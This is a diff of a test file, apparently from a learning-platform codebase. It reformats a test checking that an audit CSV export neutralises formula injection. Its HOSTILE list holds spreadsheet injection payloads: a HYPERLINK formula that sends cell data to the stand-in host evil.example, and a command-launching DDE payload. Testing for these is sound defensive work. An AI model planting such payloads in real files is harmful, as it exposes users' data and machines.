@@ -17,8 +17,14 @@ from lms_core.jobs.services import commit
 from tests.conftest import login
 from tests.factories import UserFactory, grant
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1)",
-           "\tTAB", "\rCR"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+1",
+    "@SUM(A1)",
+    "\tTAB",
+    "\rCR",
+]
 
 
 def _cells(values):
@@ -59,8 +65,11 @@ def test_the_audit_export_neutralises_imported_names(client, tree):
     # Found by value, not position: the export's columns may change.
     assert "'-2+3+cmd" in rows[1] and "'" + HOSTILE[0] in rows[1]
     assert "-2+3+cmd" not in rows[1] and HOSTILE[0] not in rows[1]
-    assert not any(cell.startswith(csv_export.FORMULA_STARTS) and not csv_export._PLAIN_NUMBER.fullmatch(cell)
-                   for row in rows for cell in row)
+    assert not any(
+        cell.startswith(csv_export.FORMULA_STARTS) and not csv_export._PLAIN_NUMBER.fullmatch(cell)
+        for row in rows
+        for cell in row
+    )
 
 
 def test_every_csv_writer_in_the_code_goes_through_the_helper():
